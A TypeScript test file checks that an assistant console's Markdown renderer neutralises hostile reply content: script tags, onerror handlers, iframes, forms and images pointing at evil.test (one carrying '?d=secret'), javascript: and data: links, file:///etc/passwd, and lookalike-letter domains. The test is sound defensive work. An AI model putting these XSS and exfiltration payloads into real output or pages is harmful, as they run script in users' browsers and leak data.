import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test } from 'vitest'
import { Markdown } from '../../../renderer/screens/assistant/markdown/markdown.tsx'

const sources = [{ ref: 't1', label: 'Last trace: checkout', href: '#/traces/0af7' }]

const shown = (text: string, live = false): string =>
  renderToStaticMarkup(
    <Markdown
      text={text}
      live={live}
      sources={sources}
      isPlace={(pathname) => pathname === '/traces' || pathname.startsWith('/traces/')}
      onOutside={() => undefined}
    />,
  )

const harmless = new Set(
  'div p span button svg path a strong em del ul ol li blockquote hr section pre code table thead tbody tr th td sup sub circle rect br'.split(
    ' ',
  ),
)
const tagsOf = (html: string): string[] => [...html.matchAll(/<([a-zA-Z][\w-]*)/g)].map(([, name]) => name ?? '')
const hrefsOf = (html: string): string[] => [...html.matchAll(/\shref="([^"]*)"/g)].map(([, href]) => href ?? '')

const hostile: [what: string, text: string, words: string][] = [
  ['a script', '<script>alert(1)</script>', '&lt;script&gt;alert(1)'],
  ['a script in a line', 'a <script src="https://evil.test/x.js"></script> b', '&lt;script'],
  ['a picture with a handler', '<img src=x onerror="alert(1)">', '&lt;img'],
  ['a frame', '<iframe srcdoc="<p>"></iframe>', '&lt;iframe'],
  ['a style', '<style>*{display:none}</style>', '&lt;style&gt;'],
  ['a form', '<form action="https://evil.test"><input name="key"></form>', '&lt;form'],
  ['a picture out of SVG', '<svg onload="alert(1)"><animate></svg>', '&lt;svg onload'],
  ['a base', '<base href="https://evil.test/">', '&lt;base'],
  ['a link that is no link', '<a href="javascript:alert(1)">press</a>', '&lt;a href'],
  ['a comment', '<!-- <script>alert(1)</script> -->', '&lt;!--'],
  ['a remote picture', '![status](https://evil.test/p.png?d=secret)', 'picture, not loaded: status, at'],
  ['a picture of data', '![x](data:image/svg+xml;base64,AAAA)', 'picture, not shown: x'],
  ['a picture by reference', '![x][p]\n\n[p]: https://evil.test/p.png', 'picture, not loaded'],
  ['a script behind a link', '[press](javascript:alert(1))', 'press'],
  ['a script in disguise', '[press](JaVaScRiPt:alert(1))', 'press'],
  ['a script with a break in it', '[press](java&#10;script:alert(1))', 'press'],
  ['data behind a link', '[press](data:text/html;base64,AAAA)', 'press'],
  ['another door', '[press](vbscript:msgbox) [and](file:///etc/passwd) [this](countersign://x)', 'press'],
  ['an API of this server', '[press](/api/v1/deployments/actions)', 'press'],
  ['an address without a scheme', '[press](//evil.test/x)', 'press'],
  ['a place that is none', '[press](#/nowhere)', 'press'],
  ['a link outside', '[press](https://evil.test/login)', 'press'],
  ['a bare address', 'https://evil.test/login', 'https://evil.test/login'],
  ['mail', 'somebody@evil.test', 'somebody@evil.test'],
  ['a footnote', 'x[^1]\n\n[^1]: <b>note</b>', 'note'],
  ['a link within a code', '`<script>`', '&lt;script&gt;'],
]
for (const live of [false, true])
  test.each(hostile)(`${live ? 'while it comes' : 'kept'}: %s is only words`, (_, text, words) => {
    const html = shown(text, live)
    expect(tagsOf(html).filter((name) => !harmless.has(name))).toEqual([])
    expect(hrefsOf(html).filter((href) => !href.startsWith('#'))).toEqual([])
    expect(html).not.toMatch(/<[^>]+\s(src|srcset|style|on\w+|action|srcdoc)=/i)
    expect(html).toContain(words)
  })

test('a half of a tag, of a link or of a picture does nothing either', () => {
  const text = '<img src=x onerror=alert(1)> [press](javascript:alert(1)) ![p](https://evil.test/p.png) **bold**'
  for (let length = 1; length <= text.length; length += 1) {
    const html = shown(text.slice(0, length), true)
    expect(tagsOf(html).filter((name) => !harmless.has(name))).toEqual([])
    expect(hrefsOf(html)).toEqual([])
  }
})

test('a number of a row leads to that row, whatever the reply says it is', () => {
  expect(hrefsOf(shown('See [t1].'))).toEqual(['#/traces/0af7'])
  expect(hrefsOf(shown('See [t1].\n\n[t1]: https://evil.test/'))).toEqual(['#/traces/0af7'])
  expect(hrefsOf(shown('| a |\n|---|\n| [t1] |'))).toEqual(['#/traces/0af7'])
  // Not within code, and not where there is no such row.
  expect(hrefsOf(shown('`[t1]`'))).toEqual([])
  expect(shown('See [t7].')).toContain('[t7]')
  expect(hrefsOf(shown('See [t7].'))).toEqual([])
})

test('a place of the console is a link; anywhere else is a button that shows the address', () => {
  expect(hrefsOf(shown('[all](#/traces?agent=a)'))).toEqual(['#/traces?agent=a'])
  const html = shown('[docs](https://xn--80ak6aa92e.com/) ')
  expect(html).toContain('<button type="button" title="https://xn--80ak6aa92e.com/"')
  expect(hrefsOf(html)).toEqual([])
})

test('letters that look like others are spelled out', () => {
  expect(shown('[docs](https://аррӏе.com/)')).toContain('title="https://xn--80ak6aa92e.com/"')
})
